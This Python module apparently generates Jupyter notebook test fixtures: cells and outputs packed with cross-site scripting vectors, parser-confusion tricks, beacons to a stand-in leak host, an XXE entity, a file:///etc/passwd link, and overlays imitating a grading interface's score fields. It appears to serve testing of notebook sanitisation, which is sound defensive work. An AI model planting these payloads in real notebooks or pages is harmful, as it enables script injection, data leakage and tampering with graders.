"""What a student might write so that it acts in the browser of whoever reads it."""

from __future__ import annotations

import base64
import json
from typing import Any

import nbformat
from nbformat import NotebookNode

URL = "http://198.51.100.7/leak"
JS = "window.pwned=1;document.title='pwned';console.log('pwned');"
SVG = f"""<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20" onload="{JS}"><script>{JS}</script>
<image href="{URL}.png" width="9" height="9"/><style>@import url({URL}.css);</style>
<foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="{JS}"/></foreignObject>
</svg>"""
PAGE = base64.b64encode(f"<script>{JS}</script>".encode()).decode()
OVER = "position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999;background:#000"

HTML = [
    f"<script>{JS}</script>",
    f'<script src="{URL}.js"></script>',
    f'<img src=x onerror="{JS}">',
    f'<svg onload="{JS}"></svg>',
    f"<svg><script>{JS}</script></svg>",
    f'<svg><a href="javascript:{JS}"><text y="9">x</text></a></svg>',
    f'<svg><animate onbegin="{JS}" attributeName="x" dur="1s"></svg>',
    f'<a href="javascript:{JS}">x</a>',
    f'<a href="java&#x09;script:{JS}">x</a>',
    f'<a href="data:text/html;base64,{PAGE}">x</a>',
    f'<a href="https://example.org" ping="{URL}">x</a>',
    f'<iframe src="{URL}"></iframe>',
    f"<iframe srcdoc=\"<script>parent.{JS}</script>\"></iframe>",
    f'<iframe src="javascript:parent.{JS}"></iframe>',
    f'<object data="{URL}"></object>',
    f'<object data="data:text/html;base64,{PAGE}"></object>',
    f'<embed src="{URL}">',
    f'<meta http-equiv="refresh" content="0; url={URL}">',
    f'<base href="{URL}">',
    f'<form action="{URL}"><input autofocus onfocus="{JS}"><button formaction="{URL}">x</button></form>',
    f'<details open ontoggle="{JS}"><summary>x</summary></details>',
    f'<marquee onstart="{JS}">x</marquee>',
    f'<video poster="{URL}.png" src="{URL}.mp4" autoplay onerror="{JS}"></video>',
    f'<audio src="{URL}.mp3" autoplay></audio>',
    f'<picture><source srcset="{URL}.webp"><img src="{URL}.png" srcset="{URL}2.png 2x"></picture>',
    f'<input type="image" src="{URL}.png">',
    f'<table background="{URL}.png"><tr><td style="background:url({URL}.png)">x</td></tr></table>',
    f'<link rel="stylesheet" href="{URL}.css">',
    f'<link rel="prefetch" href="{URL}"><link rel="preconnect" href="{URL}">',
    f"<style>@import url({URL}.css); body {{ background: url({URL}.png) }}</style>",
    "<style>* { visibility: hidden !important } h1, main, section { display: none !important }</style>",
    f'<div style="{OVER}">covered</div>',
    '<p style="margin-top:-3000px;height:4000px;position:relative;z-index:9">x</p>',
    f"<noscript><p title=\"</noscript><img src=x onerror={JS}>\">",
    f"<!--><img src=x onerror={JS}>-->",
    f"<![CDATA[><img src=x onerror={JS}>]]>",
    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={JS}&gt;\">",
    f'<math href="javascript:{JS}"><mi xlink:href="javascript:{JS}">x</mi></math>',
    f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror={JS} src>\">",
    f'<xmp><p title="</xmp><img src=x onerror={JS}>"></xmp>',
    "</section></main></body></html>",
    "</pre></td></tr></table></details></textarea></title></style></script>",
]  # fmt: skip

# No script is needed where the page's own styles and scripts can be borrowed: these are formgrader's.
IMITATIONS = [
    '<div class="modal-backdrop in score" id="imitated">covered</div>',
    f'<a class="navbar-fixed-top imitated" href="{URL}">next</a>',
    '<input class="score imitated" id="imitated" value="99">',
    '<div class="modal fade in imitated" style="display:block">covered</div>',
]

MARKDOWN = [
    *HTML,
    *IMITATIONS,
    *(f"text {html} text" for html in HTML[:10]),
    f"[x](javascript:{JS.replace(';', '%3B')})",
    f"[x](  JaVaScRiPt:{JS})",
    f"[x](data:text/html;base64,{PAGE})",
    f"<javascript:{JS}>",
    f"[x][r]\n\n[r]: javascript:{JS}",
    f'[x](https://example.org "\\" onmouseover=\\"{JS}")',
    f"[x](vbscript:{JS}) [x](file:///etc/passwd) [x](//198.51.100.7/leak)",
    f"![x]({URL}.png) ![x](//198.51.100.7/leak.png)",
    f'![" onerror="{JS}](data:image/svg+xml;base64,{base64.b64encode(SVG.encode()).decode()})',
    "![x](attachment:x.svg) ![x](attachment:x.html)",
    f'```"><img/src=x/onerror={JS}>\ncode\n```',
    f"`<img src=x onerror={JS}>`",
    f"# <img src=x onerror={JS}> {{#id onclick={JS}}}",
    rf"$\href{{javascript:{JS}}}{{x}}$",
    rf"$$\style{{{OVER}}}{{\text{{covered}}}}$$",
    r"$\class{summary}{x} \cssId{top}{y} \require{html} \unicode{x3c}$",
    rf"$\text{{<img src=x onerror={JS}>}} \text{{</math><script>{JS}</script>}}$",
    rf"\begin{{align}}<script>{JS}</script> &= \hspace{{-999em}} \kern{{-99em}} x \rule{{999em}}{{999em}}\end{{align}}",
    f"`<script>{JS}</script>`{{=html}}\n\n```{{=html}}\n<script>{JS}</script>\n```",
    f"note[^1]\n\n[^1]: <img src=x onerror={JS}>",
    f"| a |\n| --- |\n| <img src=x onerror={JS}> |",
]  # fmt: skip

ATTACHMENTS = {
    "x.svg": {"image/svg+xml": base64.b64encode(SVG.encode()).decode()},
    "x.html": {"text/html": f"<script>{JS}</script>"},
}

DATA: list[dict[str, Any]] = [
    *({"text/html": html, "text/plain": "x"} for html in (*HTML, *IMITATIONS)),
    *({"text/html": f"<table><tr><td>{html}</td></tr></table>"} for html in HTML),
    {"application/javascript": JS, "text/plain": "x"},
    {"application/javascript": JS},
    {"text/latex": rf"$\href{{javascript:{JS}}}{{x}}$"},
    {"text/latex": f"<script>{JS}</script>"},
    {"text/markdown": f"[x](javascript:{JS}) <script>{JS}</script>"},
    {"image/svg+xml": SVG},
    {"image/svg+xml": f'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "{URL}">]><svg>&x;</svg>'},
    {"image/png": f'" onerror="{JS}'},
    {"image/png": base64.b64encode(SVG.encode()).decode()},
    {"application/vnd.jupyter.widget-view+json": {"model_id": f"</script><script>{JS}</script>"}, "text/plain": "x"},
    {"application/vnd.vegalite.v5+json": {"data": {"url": URL}}},
    {"application/vnd.plotly.v1+json": {"data": [], "layout": {"images": [{"source": URL}]}}},
    {"application/json": {"</script>": f"<img src=x onerror={JS}>"}},
    {"application/pdf": PAGE},
    {"application/geo+json": {"url": URL}},
    {f"text/<img src=x onerror={JS}>": f"<img src=x onerror={JS}>"},
]

STREAMS = [
    f"<img src=x onerror={JS}>",
    f"\x1b[31m<script>{JS}</script>\x1b[0m",
    f"\x1b]8;;javascript:{JS}\x07link\x1b]8;;\x07",
    "\x1b[38;2;1;2;999999999m\x1b[48;5;999mx\x1b[2J\x1b[999A",
    f"$\\href{{javascript:{JS}}}{{x}}$",
]


def code_cells() -> list[NotebookNode]:
    """Code cells with every hostile output."""
    v4 = nbformat.v4
    outputs = [v4.new_output("display_data", data=data) for data in json.loads(json.dumps(DATA))]
    picture = {"image/svg+xml": {"width": f'9" onload="{JS}'}, "text/html": {"isolated": True}}
    outputs.append(v4.new_output("display_data", data={"image/svg+xml": SVG}, metadata=picture))
    outputs += [v4.new_output("stream", text=text) for text in STREAMS]
    evil = f"<img src=x onerror={JS}>"
    outputs.append(v4.new_output("error", ename=evil, evalue=evil, traceback=[evil, f"\x1b[31m{evil}"]))
    return [v4.new_code_cell(f"'{evil}'  # </pre>{evil}\n%%html\n{evil}", outputs=[output]) for output in outputs]


def markdown_cells() -> list[NotebookNode]:
    """Markdown cells with everything that Markdown may carry, and raw ones with all that HTML may."""
    cells = [nbformat.v4.new_markdown_cell(text, attachments=ATTACHMENTS) for text in MARKDOWN]
    raw = [nbformat.v4.new_raw_cell(html) for html in (*IMITATIONS, *HTML)]
    named = [nbformat.v4.new_raw_cell(html, metadata={"raw_mimetype": "text/html"}) for html in IMITATIONS]
    return [*cells, *raw, *named]
